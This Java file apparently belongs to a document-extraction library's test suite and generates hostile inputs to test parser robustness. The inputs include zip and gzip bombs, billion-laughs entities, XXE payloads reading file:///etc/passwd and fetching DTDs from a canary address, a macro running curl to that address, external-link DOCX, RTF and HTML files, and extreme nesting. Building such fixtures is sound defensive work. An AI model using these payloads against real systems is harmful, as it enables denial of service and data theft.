package kz.bayandama.extract;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Originals made to hurt whoever reads them, by name. Nothing here is large before it is read. */
final class HostileOriginals {
  private static final String RELATIONS =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

  private final String canary;
  private final Map<String, byte[]> all = new LinkedHashMap<>();

  private HostileOriginals(String canary) {
    this.canary = canary;
  }

  /**
   * All of them.
   *
   * @param canary an address that nobody may call
   */
  static Map<String, byte[]> all(String canary) throws IOException {
    HostileOriginals originals = new HostileOriginals(canary);
    originals.bombs();
    originals.entities();
    originals.links();
    originals.nested();
    originals.pictures();
    HostilePdfs.all(canary).forEach(originals.all::put);
    return originals.all;
  }

  private void bombs() throws IOException {
    all.put("bomb in the body.docx", Originals.docx(Originals.paragraph("а".repeat(30_000_000))));
    byte[] inner = Originals.docx(Originals.paragraph("Есеп"));
    for (int i = 0; i < 12; i++) {
      inner = carrying(inner);
    }
    all.put("documents in documents.docx", inner);
    byte[] zeros = new byte[20_000_000];
    byte[] zip = zip(Map.of("0", zeros));
    for (int i = 0; i < 6; i++) {
      Map<String, byte[]> ten = new LinkedHashMap<>();
      for (int j = 0; j < 10; j++) {
        ten.put(j + ".zip", zip);
      }
      zip = zip(ten);
    }
    all.put("nested zips in a mail.eml", mail(zip));
    all.put("nested zips.docx", zip);
    all.put("overlapping entries.docx", overlapping(5_000, 10_000_000));
    all.put("gzip of zeros.docx", gzip(zeros));
  }

  /** A DOCX that carries another as an embedded package. */
  private static byte[] carrying(byte[] inner) throws IOException {
    String relations = relationships(RELATIONS + "package", "embeddings/inner.docx", "Internal");
    Map<String, byte[]> parts = new LinkedHashMap<>();
    parts.put("word/_rels/document.xml.rels", utf8(relations));
    parts.put("word/embeddings/inner.docx", inner);
    return Originals.packed(document(Originals.paragraph("Есеп")), parts);
  }

  private static String document(String body) {
    return "<w:document " + Originals.W + "><w:body>" + body + "</w:body></w:document>";
  }

  private static String relationships(String type, String target, String mode) {
    return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + "<Relationship Id=\"rId1\" TargetMode=\""
        + mode
        + "\" Target=\""
        + target
        + "\" Type=\""
        + type
        + "\"/></Relationships>";
  }

  private void entities() throws IOException {
    StringBuilder laughs = new StringBuilder("<!ENTITY a0 \"күлкі\">");
    for (int i = 1; i < 12; i++) {
      laughs.append("<!ENTITY a" + i + " \"" + ("&a" + (i - 1) + ";").repeat(10) + "\">");
    }
    String laughing = "<!DOCTYPE w:document [" + laughs + "]>";
    String calling =
        "<!DOCTYPE w:document [<!ENTITY % p SYSTEM \""
            + canary
            + "x.dtd\"> %p;"
            + "<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
    String outside = "<!DOCTYPE w:document SYSTEM \"" + canary + "y.dtd\">";
    all.put(
        "billion laughs.docx",
        Originals.docx(laughing + document(Originals.paragraph("&a11;")), Map.of()));
    all.put(
        "entity calls out.docx",
        Originals.docx(calling + document(Originals.paragraph("&x;")), Map.of()));
    all.put(
        "type calls out.docx",
        Originals.docx(outside + document(Originals.paragraph("Есеп")), Map.of()));
    for (String part :
        new String[] {"word/styles.xml", "word/numbering.xml", "docProps/core.xml"}) {
      all.put(
          "entities in " + part.replace('/', '-') + ".docx",
          Originals.docx(
              document(Originals.paragraph("Есеп")),
              Map.of(part, calling + "<w:styles " + Originals.W + ">&x;</w:styles>")));
    }
    all.put(
        "entities in relations.docx",
        Originals.docx(
            document(Originals.paragraph("Есеп")),
            Map.of(
                "word/_rels/document.xml.rels", calling + "<Relationships>&x;</Relationships>")));
    all.put("billion laughs.html", utf8(laughing + "<html><body><p>&a11; Есеп</p></body></html>"));
    all.put(
        "entities.xhtml",
        utf8(
            "<?xml version=\"1.0\"?>"
                + calling
                + "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>&x;</p></body></html>"));
  }

  private void links() throws IOException {
    for (String type :
        new String[] {"attachedTemplate", "image", "oleObject", "aFChunk", "frame"}) {
      all.put(
          "external " + type + ".docx",
          Originals.docx(
              document(
                  Originals.paragraph("Есеп")
                      + "<w:altChunk r:id=\"rId1\"/><w:p><w:r><w:object r:id=\"rId1\"/></w:r></w:p>"),
              Map.of(
                  "word/_rels/document.xml.rels",
                  relationships(RELATIONS + type, canary + type, "External"),
                  "word/_rels/settings.xml.rels",
                  relationships(RELATIONS + type, canary + type, "External"),
                  "word/settings.xml",
                  "<w:settings "
                      + Originals.W
                      + "><w:attachedTemplate r:id=\"rId1\"/></w:settings>")));
    }
    all.put(
        "macros.docm",
        Originals.docx(
            document(Originals.paragraph("Есеп")),
            Map.of(
                "word/vbaProject.bin", "Sub AutoOpen()\nShell \"curl " + canary + "\"\nEnd Sub")));
    all.put(
        "field calls out.rtf",
        utf8(
            "{\\rtf1\\ansi{\\*\\template "
                + canary
                + "t.dotm}{\\field{\\*\\fldinst INCLUDEPICTURE \""
                + canary
                + "p.png\" \\\\d}{\\fldrslt Esep}}\\par Esep}"));
    all.put(
        "page calls out.html",
        utf8(
            "<html><head><base href=\""
                + canary
                + "\"><link rel=stylesheet href=a.css>"
                + "<meta http-equiv=refresh content=\"0;url="
                + canary
                + "\"><script src=a.js></script>"
                + "</head><body><img src=a.png><iframe src=b></iframe><object data=c></object>"
                + "<svg><image href=\""
                + canary
                + "d\"/></svg><p>Есеп</p></body></html>"));
  }

  private void nested() throws IOException {
    int depth = 60_000;
    all.put(
        "nested controls.docx",
        Originals.docx(
            "<w:sdt><w:sdtContent>".repeat(depth)
                + Originals.paragraph("терең")
                + "</w:sdtContent></w:sdt>".repeat(depth)));
    all.put("nested tables.docx", Originals.docx(tables(3_000)));
    all.put("nested divs.html", utf8("<div>".repeat(200_000) + "Есеп" + "</div>".repeat(200_000)));
    all.put(
        "nested groups.rtf",
        utf8("{\\rtf1 " + "{".repeat(200_000) + "Esep" + "}".repeat(200_000) + "}"));
    byte[] message = utf8("Subject: x\n\nЕсеп\n");
    for (int i = 0; i < 60; i++) {
      message =
          utf8(
              "From: a@example.kz\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
                  + new String(message, StandardCharsets.UTF_8));
    }
    all.put("mails in mails.eml", message);
    StringBuilder parts = new StringBuilder("From: a@example.kz\nMIME-Version: 1.0\n");
    for (int i = 0; i < 2_000; i++) {
      parts.append("Content-Type: multipart/mixed; boundary=b" + i + "\n\n--b" + i + "\n");
    }
    all.put("parts in parts.eml", utf8(parts + "Content-Type: text/plain\n\nЕсеп\n"));
    all.put("one long word.txt", utf8("а".repeat(3_000_000)));
    all.put("brackets without end.txt", utf8("(((([[[[{{{{".repeat(200_000)));
    all.put("numbers without end.txt", utf8("1.".repeat(1_000_000)));
    all.put("nothing but zeros.txt", new byte[3_000_000]);
  }

  private static String tables(int depth) {
    return "<w:tbl><w:tr><w:tc>".repeat(depth)
        + Originals.paragraph("терең")
        + "</w:tc></w:tr></w:tbl>".repeat(depth);
  }

  private void pictures() throws IOException {
    byte[] huge = png(60_000, 60_000, 2_000_000);
    all.put("huge picture.png", huge);
    all.put("picture that says it is huge.png", png(2_000_000_000, 2_000_000_000, 100));
    all.put("huge picture.docx", pictured(huge));
    all.put("huge picture in a mail.eml", mail(huge));
  }

  private static byte[] pictured(byte[] picture) throws IOException {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    parts.put(
        "word/_rels/document.xml.rels",
        utf8(relationships(RELATIONS + "image", "media/a.png", "Internal")));
    parts.put("word/media/a.png", picture);
    String drawing =
        "<w:p><w:r><w:drawing><wp:inline xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/"
            + "wordprocessingDrawing\"><a:blip xmlns:a=\"http://schemas.openxmlformats.org/drawingml/"
            + "2006/main\" r:embed=\"rId1\"/></wp:inline></w:drawing></w:r></w:p>";
    return Originals.packed(document(drawing), parts);
  }

  /** A grey PNG of this size whose rows are zeros, as many bytes of them as are said. */
  private static byte[] png(int width, int height, int rows) throws IOException {
    ByteArrayOutputStream png = new ByteArrayOutputStream();
    png.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
    ByteArrayOutputStream header = new ByteArrayOutputStream();
    number(header, width);
    number(header, height);
    header.write(new byte[] {8, 0, 0, 0, 0});
    chunk(png, "IHDR", header.toByteArray());
    Deflater deflater = new Deflater(9);
    deflater.setInput(new byte[rows]);
    deflater.finish();
    byte[] packed = new byte[1 << 16];
    chunk(png, "IDAT", Arrays.copyOf(packed, deflater.deflate(packed)));
    deflater.end();
    chunk(png, "IEND", new byte[0]);
    return png.toByteArray();
  }

  private static void chunk(ByteArrayOutputStream png, String type, byte[] bytes)
      throws IOException {
    number(png, bytes.length);
    CRC32 crc = new CRC32();
    crc.update(type.getBytes(StandardCharsets.US_ASCII));
    crc.update(bytes);
    png.write(type.getBytes(StandardCharsets.US_ASCII));
    png.write(bytes);
    number(png, (int) crc.getValue());
  }

  private static void number(ByteArrayOutputStream out, int value) {
    for (int shift = 24; shift >= 0; shift -= 8) {
      out.write(value >>> shift);
    }
  }

  private static byte[] mail(byte[] attachment) {
    return utf8(
        "From: a@example.kz\nSubject: x\nMIME-Version: 1.0\n"
            + "Content-Type: multipart/mixed; boundary=B\n\n--B\n"
            + "Content-Type: application/octet-stream; name=a.docx\n"
            + "Content-Transfer-Encoding: base64\n\n"
            + Base64.getMimeEncoder().encodeToString(attachment)
            + "\n--B--\n");
  }

  private static byte[] gzip(byte[] bytes) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
      gzip.write(bytes);
    }
    return out.toByteArray();
  }

  private static byte[] zip(Map<String, byte[]> entries) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
        zip.putNextEntry(new ZipEntry(entry.getKey()));
        zip.write(entry.getValue());
      }
    }
    return bytes.toByteArray();
  }

  /**
   * A DOCX in whose directory thousands of embedded documents share one body of zeros, as in David
   * Fifield's "A better zip bomb" (2019).
   */
  private static byte[] overlapping(int entries, int zeros) throws IOException {
    byte[] whole =
        Originals.packed(
            document(Originals.paragraph("Есеп")),
            Map.of("word/embeddings/kernel.bin", new byte[zeros]));
    int end = whole.length - 22;
    int directory = little(whole, end + 16, 4);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(whole, 0, end);
    int kernel = directory;
    while (!name(whole, kernel).equals("word/embeddings/kernel.bin")) {
      kernel = next(whole, kernel);
    }
    byte[] record = Arrays.copyOfRange(whole, kernel, next(whole, kernel));
    for (int i = 0; i < entries; i++) {
      byte[] other = record.clone();
      byte[] number = String.format("%06d", i).getBytes(StandardCharsets.US_ASCII);
      System.arraycopy(number, 0, other, 46 + "word/embeddings/".length(), 6);
      out.write(other);
    }
    byte[] trailer = Arrays.copyOfRange(whole, end, whole.length);
    int all = little(trailer, 10, 2) + entries;
    put(trailer, 8, 2, all);
    put(trailer, 10, 2, all);
    put(trailer, 12, 4, out.size() - directory);
    out.write(trailer);
    return out.toByteArray();
  }

  private static String name(byte[] zip, int record) {
    return new String(zip, record + 46, little(zip, record + 28, 2), StandardCharsets.UTF_8);
  }

  private static int next(byte[] zip, int record) {
    return record
        + 46
        + little(zip, record + 28, 2)
        + little(zip, record + 30, 2)
        + little(zip, record + 32, 2);
  }

  private static int little(byte[] bytes, int at, int length) {
    int value = 0;
    for (int i = length - 1; i >= 0; i--) {
      value = (value << 8) | (bytes[at + i] & 0xff);
    }
    return value;
  }

  private static void put(byte[] bytes, int at, int length, int value) {
    for (int i = 0; i < length; i++) {
      bytes[at + i] = (byte) (value >>> (8 * i));
    }
  }

  static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
